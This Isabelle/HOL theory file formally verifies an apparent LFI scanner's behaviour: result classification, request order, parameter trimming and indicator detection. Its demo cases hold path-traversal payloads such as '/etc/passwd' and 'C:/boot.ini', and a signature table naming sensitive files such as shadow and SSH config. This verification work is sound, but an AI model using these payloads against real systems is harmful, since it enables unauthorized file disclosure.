           \<and> confidence (probeResult p orig bS bL tu pl res) = Medium))
   \<and> (scan_ready pf ps u \<longrightarrow>
        (\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
          \<and> (\<forall>r \<in> set (results summary).
                \<not> (200 \<le> status r \<and> status r \<le> 299) \<longrightarrow>
                  contentLength r = 0 \<and> indicators r = [] \<and> sample r = []
                  \<and> detection r \<noteq> CONFIRMED_LFI
                  \<and> (\<forall>b. snd (scan_baseline pf u) = Some b \<and> 0 < b \<longrightarrow>
                         detection r = POSSIBLE_LFI \<and> confidence r = Medium))))"
proof -
  have a: "contentLength (probeResult p orig bS bL tu pl res) = 0
      \<and> indicators (probeResult p orig bS bL tu pl res) = []
      \<and> sample (probeResult p orig bS bL tu pl res) = []
      \<and> detection (probeResult p orig bS bL tu pl res) \<noteq> CONFIRMED_LFI
      \<and> (\<forall>b. bL = Some b \<and> 0 < b \<longrightarrow>
             diffRatio 0 b = 1
           \<and> detection (probeResult p orig bS bL tu pl res) = POSSIBLE_LFI
           \<and> confidence (probeResult p orig bS bL tu pl res) = Medium)"
    if "\<not> ok res" for p orig bS bL tu pl res
    using that
    by (auto simp: probeResult_def Let_def detectLfiIndicators_empty analyzeLfiHeuristics_def
        diffRatio_zero three_tenths_less_one split: option.splits)
  have b: "contentLength r = 0 \<and> indicators r = [] \<and> sample r = []
            \<and> detection r \<noteq> CONFIRMED_LFI
            \<and> (\<forall>b. snd (scan_baseline pf u) = Some b \<and> 0 < b \<longrightarrow>
                   detection r = POSSIBLE_LFI \<and> confidence r = Medium)"
    if "r \<in> set (scan_results pf ps u)" "\<not> (200 \<le> status r \<and> status r \<le> 299)" for r
  proof -
    from scan_results_form[OF that(1)] obtain p orig tu pl res where
      r: "r = probeResult p orig (fst (scan_baseline pf u)) (snd (scan_baseline pf u)) tu pl res"
      by blast
    then have "\<not> ok res" using that(2) by (simp add: probeResult_sel ok_def)
    from a[OF this, of p orig "fst (scan_baseline pf u)" "snd (scan_baseline pf u)" tu pl] r
    show ?thesis by blast
  qed
  have c: "scan_ready pf ps u \<longrightarrow>
        (\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
          \<and> (\<forall>r \<in> set (results summary).
                \<not> (200 \<le> status r \<and> status r \<le> 299) \<longrightarrow>
                  contentLength r = 0 \<and> indicators r = [] \<and> sample r = []
                  \<and> detection r \<noteq> CONFIRMED_LFI
                  \<and> (\<forall>b. snd (scan_baseline pf u) = Some b \<and> 0 < b \<longrightarrow>
                         detection r = POSSIBLE_LFI \<and> confidence r = Medium)))"
  proof
    assume r: "scan_ready pf ps u"
    show "\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
          \<and> (\<forall>r \<in> set (results summary).
                \<not> (200 \<le> status r \<and> status r \<le> 299) \<longrightarrow>
                  contentLength r = 0 \<and> indicators r = [] \<and> sample r = []
                  \<and> detection r \<noteq> CONFIRMED_LFI
                  \<and> (\<forall>b. snd (scan_baseline pf u) = Some b \<and> 0 < b \<longrightarrow>
                         detection r = POSSIBLE_LFI \<and> confidence r = Medium))"
      unfolding handleRunLfi_ok[OF r] using b by simp
  qed
  from a[of res p orig bS bL tu pl] c show ?thesis by blast
qed

theorem non_ok_probe_empty_body_witness:
  "(let r = probeResult ''file'' (Some ''home.php'') (Some 200) (Some 5) demo_url ''/etc/passwd''
              \<lparr> http_status = 404, body_text = Some ''root:x:0:0:'' \<rparr>
    in contentLength r = 0 \<and> indicators r = [] \<and> sample r = []
       \<and> detection r = POSSIBLE_LFI \<and> confidence r = Medium)
   \<and> (\<exists>summary reqs.
     handleRunLfi
       (demo_platform (\<lambda>k u. if k = 0 then respond 200 ''hello'' else respond 404 ''root:x:0:0:''))
       demo_popup = (Inr summary, reqs)
     \<and> map status (results summary) = [404, 404, 404]
     \<and> (\<forall>r \<in> set (results summary).
           contentLength r = 0 \<and> indicators r = [] \<and> sample r = []
           \<and> detection r = POSSIBLE_LFI \<and> confidence r = Medium))"
proof -
  let ?f = "\<lambda>(k::nat) (u::URL). if k = 0 then respond 200 ''hello'' else respond 404 ''root:x:0:0:''"
  have bl: "snd (scan_baseline (demo_platform ?f) demo_url) = Some 5"
    by (simp add: demo_eval)
  from non_ok_probe_empty_body[of _ _ _ _ _ _ _ "demo_platform ?f" demo_popup demo_url]
       demo_ready[of ?f]
  obtain summary reqs where
    h: "handleRunLfi (demo_platform ?f) demo_popup = (Inr summary, reqs)"
       "\<forall>r \<in> set (results summary).
                \<not> (200 \<le> status r \<and> status r \<le> 299) \<longrightarrow>
                  contentLength r = 0 \<and> indicators r = [] \<and> sample r = []
                  \<and> detection r \<noteq> CONFIRMED_LFI
                  \<and> (\<forall>b. snd (scan_baseline (demo_platform ?f) demo_url) = Some b \<and> 0 < b \<longrightarrow>
                         detection r = POSSIBLE_LFI \<and> confidence r = Medium)"
    by blast
  have "results summary = scan_results (demo_platform ?f) demo_popup demo_url"
    using h(1) handleRunLfi_ok[OF demo_ready, of ?f] by auto
  moreover have "map status (scan_results (demo_platform ?f) demo_popup demo_url) = [404, 404, 404]"
    unfolding demo_scan_results by (simp add: demo_eval)
  ultimately have m: "map status (results summary) = [404, 404, 404]" by simp
  have s: "status r = 404" if "r \<in> set (results summary)" for r
  proof -
    from that have "status r \<in> set (map status (results summary))" by simp
    then show ?thesis unfolding m by simp
  qed
  have a: "\<forall>r \<in> set (results summary).
           contentLength r = 0 \<and> indicators r = [] \<and> sample r = []
           \<and> detection r = POSSIBLE_LFI \<and> confidence r = Medium"
  proof
    fix r assume r: "r \<in> set (results summary)"
    from h(2) r s[OF r] bl show "contentLength r = 0 \<and> indicators r = [] \<and> sample r = []
           \<and> detection r = POSSIBLE_LFI \<and> confidence r = Medium"
      by simp
  qed
  have e: "\<exists>summary reqs.
     handleRunLfi (demo_platform ?f) demo_popup = (Inr summary, reqs)
     \<and> map status (results summary) = [404, 404, 404]
     \<and> (\<forall>r \<in> set (results summary).
           contentLength r = 0 \<and> indicators r = [] \<and> sample r = []
           \<and> detection r = POSSIBLE_LFI \<and> confidence r = Medium)"
    by (intro exI[of _ summary] exI[of _ reqs] conjI h(1) m a)
  have n: "\<not> ok \<lparr> http_status = 404, body_text = Some ''root:x:0:0:'' \<rparr>"
    by (simp add: ok_def)
  from non_ok_probe_empty_body
         [of "\<lparr> http_status = 404, body_text = Some ''root:x:0:0:'' \<rparr>" "''file''"
             "Some ''home.php''" "Some 200" "Some 5" demo_url "''/etc/passwd''"
             "demo_platform ?f" demo_popup demo_url] n
  have p: "let r = probeResult ''file'' (Some ''home.php'') (Some 200) (Some 5) demo_url ''/etc/passwd''
              \<lparr> http_status = 404, body_text = Some ''root:x:0:0:'' \<rparr>
    in contentLength r = 0 \<and> indicators r = [] \<and> sample r = []
       \<and> detection r = POSSIBLE_LFI \<and> confidence r = Medium"
    unfolding Let_def by simp
  show ?thesis by (intro conjI p e)
qed

subsection \<open>Order of the results and test URLs\<close>

lemma testUrls_simps:
  "testUrls u p [] = []"
  "testUrls u p (pl # L) = (testUrl u p pl, pl) # testUrls u p L"
  by (simp_all add: testUrls_def)

lemma probes_key:
  "map (\<lambda>r. (parameter r, payload r, testedUrl r)) (probes pf p orig bS bL k (testUrls u p L))
     = map (\<lambda>(i, q, pl). (q, pl, testUrl u q pl))
         (filter (\<lambda>(i, q, pl). fetch pf i (testUrl u q pl) \<noteq> None)
            (enumerate k (map (Pair p) L)))"
  by (induction L arbitrary: k)
     (auto simp: testUrls_simps probeResult_sel split: option.splits)

lemma all_probes_key:
  "map (\<lambda>r. (parameter r, payload r, testedUrl r)) (all_probes pf u ovs bS bL L k ps)
     = map (\<lambda>(i, q, pl). (q, pl, testUrl u q pl))
         (filter (\<lambda>(i, q, pl). fetch pf i (testUrl u q pl) \<noteq> None)
            (enumerate k (List.product ps L)))"
  by (induction ps arbitrary: k) (simp_all add: probes_key enumerate_append_eq)

lemma searchParams_set_get:
  "searchParams_get (searchParams_set n v qs) n = Some v"
  by (induction qs) (auto simp: searchParams_get_def)

lemma searchParams_set_others:
  "filter (\<lambda>kv. fst kv \<noteq> n) (searchParams_set n v qs) = filter (\<lambda>kv. fst kv \<noteq> n) qs"
  by (induction qs) auto

lemma searchParams_set_once:
  "filter (\<lambda>kv. fst kv = n) (searchParams_set n v qs) = [(n, v)]"
  by (induction qs) auto

lemma demo2_target: "targetUrl_of demo2_popup = ''http://h/?%20id=1&id=2&=3&page=4''"
  by (simp add: targetUrl_of_def demo2_popup_def trim_def isWhiteSpace_def)

lemma demo2_params: "scan_params demo2_popup demo2_url = [''id'', ''page'']"
  by (simp add: scan_params_def paramsToTest_def demo2_popup_def demo2_url_def trim_def
      isWhiteSpace_def uniqueDiscoveredParams_def discoveredParams_def searchParams_keys_def
      Set_add_def)

lemma demo2_payloads: "payloadList_of demo2_popup = [''/etc/passwd'', ''C:/boot.ini'']"
  by (simp add: payloadList_of_def demo2_popup_def slice0_def)

lemma demo2_ready: "scan_ready (demo2_platform f) demo2_popup demo2_url"
  by (simp add: scan_ready_def demo2_target demo2_params)
     (simp add: demo2_platform_def demo2_popup_def)

text \<open>
  Claim C7. The results of a scan are in parameter-major, payload-minor order: they are
  the pairs of a parameter (in the order of the tested parameters) and a payload (in
  list order) whose request returned a response, the request of the \<open>k\<close>-th pair being
  the \<open>k\<close>-th after the baseline request. The test URL of a pair is the target URL with
  the parameter set to the payload when the target URL has the parameter (its first
  pair takes the payload, its other pairs are removed, the pairs of other names are
  kept), and with the pair appended when it has not.
\<close>

theorem results_parameter_major:
  assumes "scan_ready pf ps u"
  shows "\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
     \<and> map (\<lambda>r. (parameter r, payload r, testedUrl r)) (results summary)
         = map (\<lambda>(k, p, pl). (p, pl, testUrl u p pl))
             (filter (\<lambda>(k, p, pl). fetch pf k (testUrl u p pl) \<noteq> None)
                (enumerate 1 (List.product (scan_params ps u) (payloadList_of ps))))
     \<and> (\<forall>p pl.
          (p \<in> set (searchParams_keys (searchParams u)) \<longrightarrow>
             searchParams_get (searchParams (testUrl u p pl)) p = Some pl
           \<and> filter (\<lambda>kv. fst kv = p) (searchParams (testUrl u p pl)) = [(p, pl)]
           \<and> filter (\<lambda>kv. fst kv \<noteq> p) (searchParams (testUrl u p pl))
               = filter (\<lambda>kv. fst kv \<noteq> p) (searchParams u))
        \<and> (p \<notin> set (searchParams_keys (searchParams u)) \<longrightarrow>
             searchParams (testUrl u p pl) = searchParams u @ [(p, pl)])
        \<and> base (testUrl u p pl) = base u \<and> hash (testUrl u p pl) = hash u)"
proof -
  have "map (\<lambda>r. (parameter r, payload r, testedUrl r)) (scan_results pf ps u)
         = map (\<lambda>(k, p, pl). (p, pl, testUrl u p pl))
             (filter (\<lambda>(k, p, pl). fetch pf k (testUrl u p pl) \<noteq> None)
                (enumerate 1 (List.product (scan_params ps u) (payloadList_of ps))))"
    by (simp add: scan_results_def all_probes_key)
  moreover have "\<forall>p pl.
          (p \<in> set (searchParams_keys (searchParams u)) \<longrightarrow>
             searchParams_get (searchParams (testUrl u p pl)) p = Some pl
           \<and> filter (\<lambda>kv. fst kv = p) (searchParams (testUrl u p pl)) = [(p, pl)]
           \<and> filter (\<lambda>kv. fst kv \<noteq> p) (searchParams (testUrl u p pl))
               = filter (\<lambda>kv. fst kv \<noteq> p) (searchParams u))
        \<and> (p \<notin> set (searchParams_keys (searchParams u)) \<longrightarrow>
             searchParams (testUrl u p pl) = searchParams u @ [(p, pl)])
        \<and> base (testUrl u p pl) = base u \<and> hash (testUrl u p pl) = hash u"
    by (simp add: testUrl_def searchParams_set_get searchParams_set_others searchParams_set_once
        searchParams_append_def)
  ultimately show ?thesis unfolding handleRunLfi_ok[OF assms] by simp
qed

theorem results_parameter_major_witness:
  "\<exists>summary reqs.
     handleRunLfi (demo2_platform (\<lambda>k u. if k = 2 then None else respond 200 [])) demo2_popup
       = (Inr summary, reqs)
     \<and> map (\<lambda>r. (parameter r, payload r, searchParams (testedUrl r))) (results summary)
         = [ (''id'', ''/etc/passwd'',
               [('' id'', ''1''), (''id'', ''/etc/passwd''), ([], ''3''), (''page'', ''4'')]),
             (''page'', ''/etc/passwd'',
               [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''/etc/passwd'')]),
             (''page'', ''C:/boot.ini'',
               [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''C:/boot.ini'')]) ]"
proof -
  let ?f = "\<lambda>(k::nat) (u::URL). if k = 2 then None else respond 200 []"
  from results_parameter_major[OF demo2_ready, of ?f] obtain summary reqs where
    h: "handleRunLfi (demo2_platform ?f) demo2_popup = (Inr summary, reqs)"
       "map (\<lambda>r. (parameter r, payload r, testedUrl r)) (results summary)
         = map (\<lambda>(k, p, pl). (p, pl, testUrl demo2_url p pl))
             (filter (\<lambda>(k, p, pl). fetch (demo2_platform ?f) k (testUrl demo2_url p pl) \<noteq> None)
                (enumerate 1 (List.product (scan_params demo2_popup demo2_url)
                                (payloadList_of demo2_popup))))"
    by blast
  have "map (\<lambda>r. (parameter r, payload r, searchParams (testedUrl r))) (results summary)
          = map (\<lambda>(p, pl, t). (p, pl, searchParams t))
              (map (\<lambda>r. (parameter r, payload r, testedUrl r)) (results summary))"
    by simp
  also have "\<dots> = [ (''id'', ''/etc/passwd'',
               [('' id'', ''1''), (''id'', ''/etc/passwd''), ([], ''3''), (''page'', ''4'')]),
             (''page'', ''/etc/passwd'',
               [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''/etc/passwd'')]),
             (''page'', ''C:/boot.ini'',
               [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''C:/boot.ini'')]) ]"
    unfolding h(2) demo2_params demo2_payloads
    by (simp add: demo2_platform_def respond_def testUrl_def demo2_url_def searchParams_keys_def)
  finally have m: "map (\<lambda>r. (parameter r, payload r, searchParams (testedUrl r))) (results summary)
          = [ (''id'', ''/etc/passwd'',
               [('' id'', ''1''), (''id'', ''/etc/passwd''), ([], ''3''), (''page'', ''4'')]),
             (''page'', ''/etc/passwd'',
               [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''/etc/passwd'')]),
             (''page'', ''C:/boot.ini'',
               [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''C:/boot.ini'')]) ]" .
  show ?thesis by (intro exI[of _ summary] exI[of _ reqs] conjI h(1) m)
qed

subsection \<open>Parameter selection\<close>

lemma param_loop_Some:
  "URL_new pf t = Some u \<Longrightarrow> param_loop pf t ovs bS bL L qs st \<noteq> None"
  using param_loop_eq[of pf t u ovs bS bL L qs st] by auto

lemma handleRunLfi_error_no_request:
  "handleRunLfi pf ps = (Inl e, reqs) \<Longrightarrow> reqs = [] \<and> e \<noteq> ScanFailed"
  by (auto simp: handleRunLfi_def Let_def param_loop_Some
      split: if_splits option.splits prod.splits)

lemma all_summaries_names:
  "map ParameterSummary.name (all_summaries pf u ovs bS bL L k qs) = qs"
  by (induction qs arbitrary: k) simp_all

lemma all_summaries_totalTests:
  "map ParameterSummary.totalTests (all_summaries pf u ovs bS bL L k qs)
     = map (\<lambda>q. length L) qs"
  by (induction qs arbitrary: k) simp_all

lemma scan_log_testUrl:
  "scan_log ps u
     = u # concat (map (\<lambda>p. map (testUrl u p) (payloadList_of ps)) (scan_params ps u))"
  by (simp add: scan_log_def testUrls_def comp_def)

text \<open>
  Claim C8, as stated, fails: the program trims the explicit name and the discovered
  keys. On a URL whose only key is \<open>" id"\<close> it tests \<open>"id"\<close>, which is not a key of the
  URL, and for the explicit name \<open>" file "\<close> it tests \<open>"file"\<close>.
\<close>

theorem paramsToTest_not_as_specified:
  "paramsToTest [] \<lparr> base = ''http://h/'', searchParams = [('' id'', ''1'')], hash = [] \<rparr>
     \<noteq> params_as_specified [] \<lparr> base = ''http://h/'', searchParams = [('' id'', ''1'')], hash = [] \<rparr>
   \<and> paramsToTest [] \<lparr> base = ''http://h/'', searchParams = [('' id'', ''1'')], hash = [] \<rparr>
       = [''id'']
   \<and> paramsToTest '' file '' \<lparr> base = ''http://h/'', searchParams = [('' id'', ''1'')], hash = [] \<rparr>
       \<noteq> params_as_specified '' file ''
           \<lparr> base = ''http://h/'', searchParams = [('' id'', ''1'')], hash = [] \<rparr>"
  by (simp add: paramsToTest_def params_as_specified_def uniqueDiscoveredParams_def
      discoveredParams_def searchParams_keys_def trim_def isWhiteSpace_def Set_add_def)

text \<open>
  Claim C8, amended. If the supplied parameter name is non-empty after trimming, the scan
  tests exactly the trimmed name; otherwise the parameters are the query-string keys of
  the target URL, each trimmed, with empty names dropped and duplicates removed (first
  occurrence kept). A scan whose checks pass tests these parameters and no others: its
  parameter summaries carry their names in order, each with one test per payload, and
  after the baseline request it requests the test URLs of exactly these parameters. If
  the list is empty, for a target URL that parses and a loaded wordlist, the scan fails
  with \<open>NoParametersFound\<close> and has issued no request; and a scan that ends without a
  summary has issued no request at all.
\<close>

theorem paramsToTest_trimmed:
  "(trim (lfiParam ps) \<noteq> [] \<longrightarrow> paramsToTest (lfiParam ps) u = [trim (lfiParam ps)])
   \<and> (trim (lfiParam ps) = [] \<longrightarrow>
        paramsToTest (lfiParam ps) u
          = first_seen (filter (\<lambda>n. n \<noteq> []) (map trim (searchParams_keys (searchParams u)))))
   \<and> (scan_ready pf ps u \<longrightarrow>
        (\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
           \<and> map ParameterSummary.name (parametersTested summary) = paramsToTest (lfiParam ps) u
           \<and> map ParameterSummary.totalTests (parametersTested summary)
               = map (\<lambda>p. length (payloadList_of ps)) (paramsToTest (lfiParam ps) u)
           \<and> set (map parameter (results summary)) \<subseteq> set (paramsToTest (lfiParam ps) u)
           \<and> reqs = u # concat (map (\<lambda>p. map (testUrl u p) (payloadList_of ps))
                                    (paramsToTest (lfiParam ps) u))))
   \<and> (targetUrl_of ps \<noteq> [] \<and> URL_new pf (targetUrl_of ps) = Some u \<and> wordlist ps \<noteq> []
        \<and> paramsToTest (lfiParam ps) u = []
      \<longrightarrow> handleRunLfi pf ps = (Inl NoParametersFound, []))
   \<and> (\<forall>e reqs. handleRunLfi pf ps = (Inl e, reqs) \<longrightarrow> reqs = [])"
proof -
  have a: "trim (lfiParam ps) \<noteq> [] \<longrightarrow> paramsToTest (lfiParam ps) u = [trim (lfiParam ps)]"
    by (simp add: paramsToTest_def)
  have b: "trim (lfiParam ps) = [] \<longrightarrow>
        paramsToTest (lfiParam ps) u
          = first_seen (filter (\<lambda>n. n \<noteq> []) (map trim (searchParams_keys (searchParams u))))"
  proof -
    have f: "Array_from_Set [] xs = first_seen xs" for xs :: "string list"
      using Array_from_Set_first_seen[of "[]" xs] by simp
    show ?thesis
      by (simp add: paramsToTest_def uniqueDiscoveredParams_def discoveredParams_def f)
  qed
  have c: "scan_ready pf ps u \<longrightarrow>
        (\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
           \<and> map ParameterSummary.name (parametersTested summary) = paramsToTest (lfiParam ps) u
           \<and> map ParameterSummary.totalTests (parametersTested summary)
               = map (\<lambda>p. length (payloadList_of ps)) (paramsToTest (lfiParam ps) u)
           \<and> set (map parameter (results summary)) \<subseteq> set (paramsToTest (lfiParam ps) u)
           \<and> reqs = u # concat (map (\<lambda>p. map (testUrl u p) (payloadList_of ps))
                                    (paramsToTest (lfiParam ps) u)))"
  proof
    assume r: "scan_ready pf ps u"
    have p: "set (map parameter (scan_results pf ps u)) \<subseteq> set (scan_params ps u)"
    proof
      fix x assume "x \<in> set (map parameter (scan_results pf ps u))"
      then obtain res where res: "res \<in> set (scan_results pf ps u)" "x = parameter res" by auto
      from all_probes_form[OF res(1)[unfolded scan_results_def]] res(2)
      show "x \<in> set (scan_params ps u)" by (auto simp: probeResult_sel)
    qed
    show "\<exists>summary reqs. handleRunLfi pf ps = (Inr summary, reqs)
           \<and> map ParameterSummary.name (parametersTested summary) = paramsToTest (lfiParam ps) u
           \<and> map ParameterSummary.totalTests (parametersTested summary)
               = map (\<lambda>p. length (payloadList_of ps)) (paramsToTest (lfiParam ps) u)
           \<and> set (map parameter (results summary)) \<subseteq> set (paramsToTest (lfiParam ps) u)
           \<and> reqs = u # concat (map (\<lambda>p. map (testUrl u p) (payloadList_of ps))
                                    (paramsToTest (lfiParam ps) u))"
      unfolding handleRunLfi_ok[OF r] scan_log_testUrl
      using p
      by (simp add: scan_summaries_def all_summaries_names all_summaries_totalTests)
         (simp add: scan_params_def)
  qed
  have d: "targetUrl_of ps \<noteq> [] \<and> URL_new pf (targetUrl_of ps) = Some u \<and> wordlist ps \<noteq> []
        \<and> paramsToTest (lfiParam ps) u = []
      \<longrightarrow> handleRunLfi pf ps = (Inl NoParametersFound, [])"
    by (simp add: handleRunLfi_def)
  have e: "\<forall>e reqs. handleRunLfi pf ps = (Inl e, reqs) \<longrightarrow> reqs = []"
    using handleRunLfi_error_no_request[of pf ps] by blast
  show ?thesis by (intro conjI a b c d e)
qed

theorem paramsToTest_trimmed_witness:
  "(\<exists>summary reqs.
      handleRunLfi (demo2_platform (\<lambda>k u. respond 200 [])) (demo2_popup\<lparr>lfiParam := '' page ''\<rparr>)
        = (Inr summary, reqs)
      \<and> map ParameterSummary.name (parametersTested summary) = [''page'']
      \<and> map searchParams reqs
          = [[('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''4'')],
             [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''/etc/passwd'')],
             [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''C:/boot.ini'')]])
   \<and> (\<exists>summary reqs.
        handleRunLfi (demo2_platform (\<lambda>k u. respond 200 [])) demo2_popup = (Inr summary, reqs)
        \<and> map ParameterSummary.name (parametersTested summary) = [''id'', ''page''])
   \<and> handleRunLfi (demo2_platform (\<lambda>k u. respond 200 [])) demo3_popup
       = (Inl NoParametersFound, [])"
proof -
  let ?pf = "demo2_platform (\<lambda>k u. respond 200 [])"
  let ?ps = "demo2_popup\<lparr>lfiParam := '' page ''\<rparr>"
  note t = paramsToTest_trimmed
  have t1: "trim (lfiParam ?ps) = ''page''" and t2: "trim (lfiParam demo2_popup) = []"
    by (simp_all add: trim_def isWhiteSpace_def demo2_popup_def)
  have tg: "targetUrl_of ?ps = ''http://h/?%20id=1&id=2&=3&page=4''"
    by (simp add: targetUrl_of_def demo2_popup_def trim_def isWhiteSpace_def)
  have p1: "paramsToTest (lfiParam ?ps) demo2_url = [''page'']"
    using t[of ?ps demo2_url ?pf] t1 by simp
  have r1: "scan_ready ?pf ?ps demo2_url"
    unfolding scan_ready_def scan_params_def p1 tg
    by (simp add: demo2_platform_def demo2_popup_def)
  have pl: "payloadList_of ?ps = [''/etc/passwd'', ''C:/boot.ini'']"
    by (simp add: payloadList_of_def demo2_popup_def slice0_def)
  from t[of ?ps demo2_url ?pf] r1 obtain summary reqs where
    h: "handleRunLfi ?pf ?ps = (Inr summary, reqs)"
       "map ParameterSummary.name (parametersTested summary) = paramsToTest (lfiParam ?ps) demo2_url"
       "reqs = demo2_url # concat (map (\<lambda>p. map (testUrl demo2_url p) (payloadList_of ?ps))
                                    (paramsToTest (lfiParam ?ps) demo2_url))"
    by blast
  have n1: "map ParameterSummary.name (parametersTested summary) = [''page'']"
    using h(2) p1 by simp
  have q1: "map searchParams reqs
          = [[('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''4'')],
             [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''/etc/passwd'')],
             [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''C:/boot.ini'')]]"
    unfolding h(3) p1 pl
    by (simp add: testUrl_def searchParams_keys_def demo2_url_def)
  have w1: "\<exists>summary reqs.
      handleRunLfi ?pf ?ps = (Inr summary, reqs)
      \<and> map ParameterSummary.name (parametersTested summary) = [''page'']
      \<and> map searchParams reqs
          = [[('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''4'')],
             [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''/etc/passwd'')],
             [('' id'', ''1''), (''id'', ''2''), ([], ''3''), (''page'', ''C:/boot.ini'')]]"
    by (intro exI[of _ summary] exI[of _ reqs] conjI h(1) n1 q1)
  have p2: "paramsToTest (lfiParam demo2_popup) demo2_url = [''id'', ''page'']"
    using t[of demo2_popup demo2_url ?pf] t2
    by (simp add: demo2_url_def searchParams_keys_def trim_def isWhiteSpace_def)
  from t[of demo2_popup demo2_url ?pf] demo2_ready[of "\<lambda>k u. respond 200 []"]
  obtain summary2 reqs2 where
    h2: "handleRunLfi ?pf demo2_popup = (Inr summary2, reqs2)"
        "map ParameterSummary.name (parametersTested summary2)
           = paramsToTest (lfiParam demo2_popup) demo2_url"
    by blast
  have n2: "map ParameterSummary.name (parametersTested summary2) = [''id'', ''page'']"
    using h2(2) p2 by simp
  have w2: "\<exists>summary reqs.
        handleRunLfi ?pf demo2_popup = (Inr summary, reqs)
        \<and> map ParameterSummary.name (parametersTested summary) = [''id'', ''page'']"
    by (intro exI[of _ summary2] exI[of _ reqs2] conjI h2(1) n2)
  have t3: "targetUrl_of demo3_popup = ''http://h/?%20=1''"
    by (simp add: targetUrl_of_def demo3_popup_def trim_def isWhiteSpace_def)
  have p3: "paramsToTest (lfiParam demo3_popup) demo3_url = []"
    by (simp add: paramsToTest_def demo3_popup_def demo3_url_def uniqueDiscoveredParams_def
        discoveredParams_def searchParams_keys_def trim_def isWhiteSpace_def)
  have w3: "handleRunLfi ?pf demo3_popup = (Inl NoParametersFound, [])"
    using t[of demo3_popup demo3_url ?pf] t3 p3
    by (simp add: demo2_platform_def) (simp add: demo3_popup_def)
  show ?thesis by (intro conjI w1 w2 w3)
qed

subsection \<open>Indicator detector\<close>

lemma detect_loop_filter:
  "detect_loop body sigs hits = hits @ map ind_label (filter (\<lambda>i. test (regex i) body) sigs)"
  by (induction sigs arbitrary: hits) simp_all

lemma passwd_signature_matches:
  "test (regex (hd indicators_table)) ''root:x:0:0:daemon:/bin/sh''"
  by (simp add: indicators_table_def ci_def test_def Canonicalize_def)

lemma environ_signature_matches:
  "test (regex (indicators_table ! 3)) ''PATH=/bin root:x:0:0:''"
  by (simp add: indicators_table_def ci_def test_def Canonicalize_def)

lemma passwd_signature_matches_later:
  "test (regex (hd indicators_table)) ''PATH=/bin root:x:0:0:''"
  by (simp add: indicators_table_def ci_def test_def Canonicalize_def)

text \<open>
  Claim C6. For every body, \<open>detectLfiIndicators\<close> returns the labels of the signatures
  whose regular expression matches somewhere in the body, in the order of the table;
  every signature is tested, so several labels can occur together. The body
  \<open>root:x:0:0:daemon:/bin/sh\<close> yields the label \<open>etc/passwd\<close>.
\<close>

theorem detectLfiIndicators_table_order:
  "detectLfiIndicators body
     = map ind_label (filter (\<lambda>i. test (regex i) body) indicators_table)
   \<and> map ind_label indicators_table
       = [ ''etc/passwd'', ''etc/shadow'', ''Unix hosts file'', ''proc/environ'',
           ''proc/version'', ''Windows win.ini'', ''Windows boot.ini'', ''Windows hosts'',
           ''PHP source'', ''Apache config'', ''SSH config'', ''MySQL config'',
           ''Bash history'', ''Error disclosure'' ]
   \<and> ''etc/passwd'' \<in> set (detectLfiIndicators ''root:x:0:0:daemon:/bin/sh'')
   \<and> {''etc/passwd'', ''proc/environ''} \<subseteq> set (detectLfiIndicators ''PATH=/bin root:x:0:0:'')"
proof -
  have d: "detectLfiIndicators body
             = map ind_label (filter (\<lambda>i. test (regex i) body) indicators_table)" for body
    by (simp add: detectLfiIndicators_def detect_loop_filter)
  have m: "ind_label i \<in> set (detectLfiIndicators body)"
    if "i \<in> set indicators_table" "test (regex i) body" for i body
    using that by (simp add: d)
  have h: "hd indicators_table \<in> set indicators_table"
    by (rule hd_in_set) (simp add: indicators_table_def)
  have n: "indicators_table ! 3 \<in> set indicators_table"
    by (rule nth_mem) (simp add: indicators_table_def)
  have l0: "ind_label (hd indicators_table) = ''etc/passwd''"
    and l3: "ind_label (indicators_table ! 3) = ''proc/environ''"
    by (simp_all add: indicators_table_def)
  have "''etc/passwd'' \<in> set (detectLfiIndicators ''root:x:0:0:daemon:/bin/sh'')"
    using m[OF h passwd_signature_matches] l0 by simp
  moreover have "''etc/passwd'' \<in> set (detectLfiIndicators ''PATH=/bin root:x:0:0:'')"
    using m[OF h passwd_signature_matches_later] l0 by simp
  moreover have "''proc/environ'' \<in> set (detectLfiIndicators ''PATH=/bin root:x:0:0:'')"
    using m[OF n environ_signature_matches] l3 by simp
  moreover have "map ind_label indicators_table
       = [ ''etc/passwd'', ''etc/shadow'', ''Unix hosts file'', ''proc/environ'',
           ''proc/version'', ''Windows win.ini'', ''Windows boot.ini'', ''Windows hosts'',
           ''PHP source'', ''Apache config'', ''SSH config'', ''MySQL config'',
           ''Bash history'', ''Error disclosure'' ]"
    by (simp add: indicators_table_def)
  ultimately show ?thesis using d[of body] by simp
qed

theorem detectLfiIndicators_table_order_witness:
  "detectLfiIndicators ''<?='' = [''PHP source'']"
  using detectLfiIndicators_table_order [of "''<?=''"]
  by (simp add: indicators_table_def ci_def test_def Canonicalize_def Plus_def AtLeast_def
      isDigit_def isWhiteSpace_def isLineTerminator_def)

end
